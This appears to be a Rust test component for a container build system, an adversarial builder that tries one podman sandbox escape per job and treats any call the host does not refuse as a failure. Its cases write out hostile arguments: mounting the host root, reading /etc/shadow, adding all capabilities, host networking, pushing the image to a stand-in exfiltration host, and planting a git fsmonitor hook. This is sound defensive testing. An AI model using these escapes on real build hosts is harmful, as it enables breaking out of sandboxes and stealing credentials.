//! Adversarial builder for tests: a third-party builder granted exactly
//! what the built-in podman builder is granted, trying one way out per job.
//! The build arg `ATTACK` names the case; each case makes the calls an
//! attacker would. A call the host refuses ends the job `denied` with the
//! host's reason; a call that ran ends it with `NOT REFUSED`, which the
//! tests treat as an escape.

wit_bindgen::generate!({
    path: "../../../wit/current",
    world: "helix:build/builder",
});

use exports::helix::build::builder_info::{self, Metadata};
use helix::build::command_runner::{self, Command, RunError};
use helix::build::job_context;

struct Attack;

impl builder_info::Guest for Attack {
    fn info() -> Metadata {
        Metadata {
            name: "testing-attack".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "TESTING: tries to escape through the podman builder's grants".into(),
            simulated: false,
        }
    }
}

/// podman's global flags as the kit passes them.
const GLOBAL: &[&str] = &["--cgroup-manager", "cgroupfs"];
/// A granted build up to its control group.
const BUILD: &[&str] = &[
    "build",
    "--isolation",
    "oci",
    "--runtime",
    "runc",
    "--network",
    "helix-private",
];

fn podman(rest: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
    let args = GLOBAL.iter().chain(rest).map(|a| a.to_string()).collect();
    ("podman".into(), args, Vec::new())
}

/// A granted build (in the job's control group, as the host says) of
/// `dockerfile` with `extra` after it.
fn build_of(dockerfile: &str, extra: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
    let cgroup = format!(
        "--cgroup-parent={}",
        job_context::setting("cgroup-parent").unwrap_or_default()
    );
    let rest: Vec<&str> = BUILD
        .iter()
        .copied()
        .chain([cgroup.as_str(), "-f", dockerfile, "--tag=localhost/helix-image"])
        .chain(extra.iter().copied())
        .collect();
    podman(&rest)
}

/// A granted build of the job's Dockerfile with `extra` after it.
fn build(extra: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
    build_of(JOB_DOCKERFILE, extra)
}

/// The job's Dockerfile (the default context and path), as the kit names it.
const JOB_DOCKERFILE: &str = "src/Dockerfile";

fn other(program: &str, args: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
    (
        program.into(),
        args.iter().map(|a| a.to_string()).collect(),
        Vec::new(),
    )
}

impl Guest for Attack {
    fn build(job: Job) -> Result<BuildOutput, BuildError> {
        let case = job
            .build_args
            .iter()
            .find(|a| a.name == "ATTACK")
            .map(|a| a.value.clone())
            .unwrap_or_default();
        let call = match case.as_str() {
            "host-context" => build(&["/etc"]),
            "volume" => build(&["--volume", "/:/host", "src"]),
            "build-context" => build(&["--build-context=host=/etc", "src"]),
            "name-another-image" => build(&["--tag=localhost/loot", "src"]),
            "secret-src" => build(&["--secret=id=s,src=/etc/shadow", "src"]),
            // Pushing "cache" over an image the host's credentials can write.
            "cache-elsewhere" => build(&["--cache-to=127.0.0.1:5000/team/app", "src"]),
            "secret-not-the-jobs" => build(&["--secret", "id=deploy_key", "src"]),
            "capabilities" => build(&["--cap-add=ALL", "--security-opt=seccomp=unconfined", "src"]),
            "duplicate-isolation" => build(&["--isolation", "chroot", "src"]),
            "storage-root" => build(&["--root=/var/lib/containers/storage", "src"]),
            "runtime" => build(&["--runtime=/workspace/evil", "src"]),
            "network-host" => build(&["--network=host", "src"]),
            "write-iidfile" => build(&["--iidfile=/etc/helix-pwned", "src"]),
            "export-over-checkout" => podman(&["push", "localhost/helix-image", "oci:src"]),
            "write-push" => podman(&["push", "localhost/helix-image", "oci:/etc/helix-pwned"]),
            "dockerfile-outside" => build_of("/etc/shadow", &["src"]),
            // Read by podman as a URL to download, on the host's network.
            "dockerfile-url" => build_of("http://127.0.0.1:1/Dockerfile", &["src"]),
            // Another file of the checkout: a Dockerfile the job did not name.
            "dockerfile-other" => build_of("src/failing/Dockerfile", &["src"]),
            "dockerfile-again" => build(&["-f", "src/failing/Dockerfile", "src"]),
            "dockerfile-omitted" => {
                let (program, mut args, env) = build(&["src"]);
                args.retain(|a| a != "-f" && a != JOB_DOCKERFILE);
                (program, args, env)
            }
            "context-url" => build(&["http://127.0.0.1:1/context.tar"]),
            "context-git" => build(&["git://127.0.0.1:1/repo.git"]),
            // Without a value podman reads the variable from its environment.
            "build-arg-from-env" => build(&["--build-arg=REGISTRY_AUTH_FILE", "src"]),
            "build-arg-frontend" => build(&["--build-arg=BUILDKIT_SYNTAX=evil.example/fe", "src"]),
            "build-arg-not-the-jobs" => build(&["--build-arg=http_proxy=http://10.0.0.1:3128", "src"]),
            "build-arg-changed" => build(&["--build-arg", "ATTACK=something-else", "src"]),
            "authfile" => build(&["--authfile=/etc/helix/auth.json", "src"]),
            "storage-env" => {
                let (program, args, _) = build(&["src"]);
                (
                    program,
                    args,
                    vec![(
                        "CONTAINERS_STORAGE_CONF".into(),
                        "/etc/containers/storage.conf".into(),
                    )],
                )
            }
            "write-workspace" => {
                // Where the export goes: a builder that could write here
                // could plant a link out of the workspace for podman (root)
                // to follow. The workspace is read-only to the builder.
                let link = format!("{}/image", job_context::workspace());
                return match std::fs::create_dir(&link) {
                    Ok(()) => Err(BuildError::Internal(format!("NOT REFUSED: created {link}"))),
                    Err(e) => Err(BuildError::Denied(format!(
                        "the workspace is read-only: {e}"
                    ))),
                };
            }
            "credentials-env" => {
                let (program, args, _) = build(&["src"]);
                (
                    program,
                    args,
                    vec![("REGISTRY_AUTH_FILE".into(), "/root/auth.json".into())],
                )
            }
            "clone-local" => other("git", &["clone", "--", "/srv/other-job", "src2"]),
            "exfiltrate-inspect" => {
                other("skopeo", &["inspect", "docker://exfil.example/secret:x"])
            }
            "exfiltrate-push" => podman(&[
                "push",
                "localhost/helix-image",
                "docker://exfil.example/data:x",
            ]),
            "git-hooks" => {
                // The checkout is writable; a host that ran git on it
                // afterwards would run this.
                let config = format!("{}/src/.git/config", job_context::workspace());
                let mut text = std::fs::read_to_string(&config).unwrap_or_default();
                let target = job
                    .build_args
                    .iter()
                    .find(|a| a.name == "PWNED")
                    .map(|a| a.value.clone())
                    .unwrap_or_default();
                text.push_str(&format!(
                    "[core]\n\tfsmonitor = /bin/touch {target}\n\thooksPath = /tmp\n"
                ));
                std::fs::write(&config, text)
                    .map_err(|e| BuildError::Internal(format!("writing {config}: {e}")))?;
                // Hand back the checkout as if it were the image.
                return Ok(BuildOutput::OciLayout("src".into()));
            }
            "layout-outside" => return Ok(BuildOutput::OciLayout("../../..".into())),
            other => return Err(BuildError::InvalidJob(format!("unknown ATTACK {other:?}"))),
        };
        let (program, args, env) = call;
        let command = Command {
            program: program.clone(),
            args,
            env,
            working_dir: None,
            timeout_ms: Some(60_000),
        };
        match command_runner::run(&command) {
            Err(RunError::Denied(reason)) => Err(BuildError::Denied(reason)),
            Err(other) => Err(BuildError::Internal(format!(
                "NOT REFUSED: {program} failed otherwise: {other:?}"
            ))),
            Ok(output) => Err(BuildError::Internal(format!(
                "NOT REFUSED: {program} ran, exit {}",
                output.exit_code
            ))),
        }
    }
}

export!(Attack);
